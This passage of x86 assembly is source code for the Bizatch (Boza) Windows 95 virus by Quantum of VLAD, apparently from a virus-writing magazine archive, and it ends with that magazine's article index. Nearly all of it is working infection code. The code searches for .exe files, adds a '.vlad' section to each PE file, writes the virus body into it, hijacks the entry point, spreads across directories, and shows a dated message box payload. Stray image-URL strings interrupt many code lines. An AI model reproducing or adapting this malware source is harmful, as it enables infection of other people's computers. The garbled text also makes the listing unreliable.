push dword ptr [ebp + offset ahand]call SetFilePointer

push 0
lea eax,[ebp + offset bytesread]
push eax
push 58h
lea eax,[ebp + offset peheader]
push eax
push dword ptr [ebp + offset ahand]
call ReadFile

cmp word ptr [ebp + offset peheader],'EP'
jnz notape
cmp word ptr [ebp + offset peheader + 4ch],0F00Dh
jz notape

push 0
push 0
push dword ptr [ebp + offset peheaderoffset]
push dword ptr [ebp + offset ahand]call SetFilePointer

push 0
lea eax,[ebp + offset bytesread]
push eax
push dword ptr [ebp + offset headersize]
lea eax,[ebp + offset peheader]
push eax
push dword ptr [ebp + offset ahand]
call ReadFile

mov word ptr [ebp + offset peheader + 4ch],0F00Dh

xor eax,eax
mov ax, word ptr [ebp + offset NtHeaderSize]
add eax,18h
mov dword ptr [ebp + offset ObjectTableoffset],eax

mov esi,dword ptr [ebp + offset ObjectTableoffset]
lea eax,[ebp + offset peheader]
add esi,eax
xor eax,eax
mov ax,[ebp + offset numObj]
mov ecx,40
xor edx,edx
mul ecx
add esi,eaxinc word ptr [ebp + offset numObj]    ; inc the number of objects

lea edi,[ebp + offset newobject]
xchg edi,esi

mov eax,[edi-5*8+8]
add eax,[edi-5*8+12]
mov ecx,dword ptr [ebp + offset objalign]
xor edx,edx
div ecx
inc eax
mul ecx
mov dword ptr [ebp + offset RVA],eax

mov ecx,dword ptr[ebp + offset filealign]
mov eax,vend-vstart
xor edx,edx
div ecx
inc eax
mul ecx
mov dword ptr [ebp + offset physicalsize],eax

mov ecx,dword ptr [ebp + offset objalign]
mov eax,vend - vstart + 1000h
xor edx,edx
div ecx
inc eax
mul ecx
mov dword ptr [ebp + offset virtualsize],eax

mov eax,[edi-5*8+20]
add eax,[edi-5*8+16]
mov ecx,dword ptr [ebp + offset filealign]
xor edx,edx
div ecx
inc eax
mul ecx
mov dword ptr [ebp + offset physicaloffset],eax

mov eax,vend-vstart+1000h
add eax,dword ptr [ebp + offset imagesize]mov ecx,[ebp + offset objalign]
xor edx,edx
div ecx
inc eax
mul ecx
mov dword ptr [ebp + offset imagesize],eax

mov ecx,10
rep movsd

mov eax,dword ptr [ebp + offset RVA]

mov ebx,dword ptr [ebp + offset entrypointRVA]
mov dword ptr [ebp + offset entrypointRVA],eax

sub eax,ebx
add eax,5

mov dword ptr [ebp + offset subme],eax

push 0
push 0
push dword ptr [ebp + offset peheaderoffset]
push dword ptr [ebp + offset ahand]
call SetFilePointer

push 0
lea eax,[ebp + offset bytesread]
push eax
push dword ptr [ebp + offset headersize]
lea eax,[ebp + offset peheader]
push eax
push dword ptr [ebp + offset ahand]
call WriteFile

inc byte ptr [ebp + offset countinfect]

push 0
push 0
push dword ptr [ebp + offset physicaloffset]
push dword ptr [ebp + offset ahand]
call SetFilePointer

push 0lea eax,[ebp + offset bytesread]
push eax
push vend-vstart
lea eax,[ebp + offset vstart]
push eax
push dword ptr [ebp + offset ahand]
call WriteFile


push dword ptr [ebp + offset ahand]
call CloseFile


cmp byte ptr [ebp + offset countinfect],3
jz outty

lea eax,[ebp + offset win32_data_thang]
push eax
push dword ptr [ebp + offset searchhandle]call FindNext

or eax,eax
jnz gofile


xor eax,eax
lea edi,[ebp + offset tempdir]
mov ecx,256/4
rep stosd
lea edi,[ebp + offset tempdir1]
mov ecx,256/4
rep stosdlea esi,[ebp + offset tempdir]
push esi
push 255
call GetCurDir

lea eax,[ebp + offset dotdot]
push eax
call SetCurDir

lea edi,[ebp + offset tempdir1]
push edi
push 255
call GetCurDir

mov ecx,256/4
rep cmpsd
jnz infectdir


lea eax,[ebp + offset orgdir]
push eax
call SetCurDirlea eax,[ebp + offset systimestruct]
push eax
call GetTime

cmp word ptr [ebp + offset day],31
jnz nopayload

push  1000h
lea eax,[ebp + offset boxtitle]
push eax
lea eax,[ebp + offset boxmsg]
push eax
push 0
call MsgBox


pop eax
jmp eax

kern dd 0BFF93B95h
kern1 dd 0BFF93B95h
kern2 dd 0BFF93C1Dh

push 0BFF77744h
jmp [ebp + offset kern]

push 0BFF7771Dh
jmp [ebp + offset kern]

cmp [ebp + offset kern],0BFF93B95h
jnz gettimekern2
push 0BFF9D0B6h
jmp [ebp + offset kern]push 0BFF9D14eh
jmp [ebp + offset kern]

push 0BFF638D9h
jmp [ebp + offset kern]

push 0BFF77893h
jmp [ebp + offset kern]

push 0BFF778CBh
jmp [ebp + offset kern]

push 0BFF77817h
jmp [ebp + offset kern]

push 0BFF76FA0h
jmp [ebp + offset kern]

push 0BFF75806h
jmp [ebp + offset kern]

push 0BFF7580Dhjmp [ebp + offset kern]

push 0BFF7BC72h
jmp [ebp + offset kern]

countinfect db 0

fileattr dd 0
createtime dd 0,0
lastaccesstime dd 0,0
lastwritetime dd 0,0
filesize dd 0,0
resv dd 0,0
fullname db 256 dup (0)
realname db 14 dup (0)

boxtitle db "Bizatch by Quantum / VLAD",0boxmsg db "The taste of fame just got tastier!",0dh
       db "VLAD Australia does it again with the world's first Win95 Virus"
       db 0dh,0dh
       db 9,"From the old school to the new..               ",0dh,0dh
       db 9,"Metabolis",0dh
       db 9,"Qark",0dh
       db 9,"Darkman",0dh
       db 9,"Automag",0dh
       db 9,"Antigen",0dh
       db 9,"RhinceWind",0dh
       db 9,"Quantum",0dh
       db9,"Absolute Overlord",0dh
       db 9,"CoKe",0

message db "Please note: the nameof this virus is [Bizatch]"
db " written by Quantum of VLAD",0

orgdir db 256 dup (0)
tempdir db 256 dup (0)
tempdir1 db 256 dup (0)
dotdot db "..",0

dw 0,0,0
day dw 0
dw 0,0,0,0

searchhandle dd 0
fname db '*.exe',0
ahand dd 0
peheaderoffset dd 0
ObjectTableoffset dd 0
bytesread dd 0

oname db ".vlad",0,0,0
virtualsize    dd 0
RVA            dd 0
physicalsize   dd 0
physicaloffset dd 0
reserved dd 0,0,0
objectflags    db 40h,0,0,0c0h

signature dd 0
cputype dw 0
numObj dw 0
db 3*4 dup (0)
NtHeaderSize dw 0
Flags dw 0
db 4*4 dup (0)
entrypointRVA dd 0
db 3*4 dup (0)
objalign dd 0
filealign dd 0
db 4*4 dup (0)
imagesize dd 0
headersize dd 0
db 1000h dup (0)
end vstart



ARTICLE.1_2       Aims and Policies
ARTICLE.1_3       Greets
ARTICLE.1_4       Members/Joining
ARTICLE.1_5       Dist/Contact Info
ARTICLE.1_6       Hidden Area Info
ARTICLE.1_7       Coding the Mag


ARTICLE.2_2       IBM-AV
ARTICLE.2_3       MIME Disasm
ARTICLE.2_4       Dark Fiber Tunneling
ARTICLE.2_5       Bait DetectionARTICLE.2_6       MCB Stealth


Win95 Intro
ARTICLE.3_2       Win95 tute
ARTICLE.3_3       PE header format
ARTICLE.3_4       Bizatch
ARTICLE.3_5       The Boza Situation
ARTICLE.3_6       Bizatch News
ARTICLE.3_7       What's Next ?


Virus Descriptions
ARTICLE.4_2       Gilgamesh
ARTICLE.4_3       VIP
ARTICLE.4_4       SVL 1.2
ARTICLE.4_6       nimd00d3
ARTICLE.4_7       386 Virus


CLME Disasm
ARTICLE.5_2       Timber Wolf
ARTICLE.5_3       SerrelindaARTICLE.5_4       Insert v1.7
ARTICLE.5_5       Backwards
ARTICLE.5_6       TraceVir
ARTICLE.5_7       Lapis Lazuli

About VLAD - Links - Contact Us - Main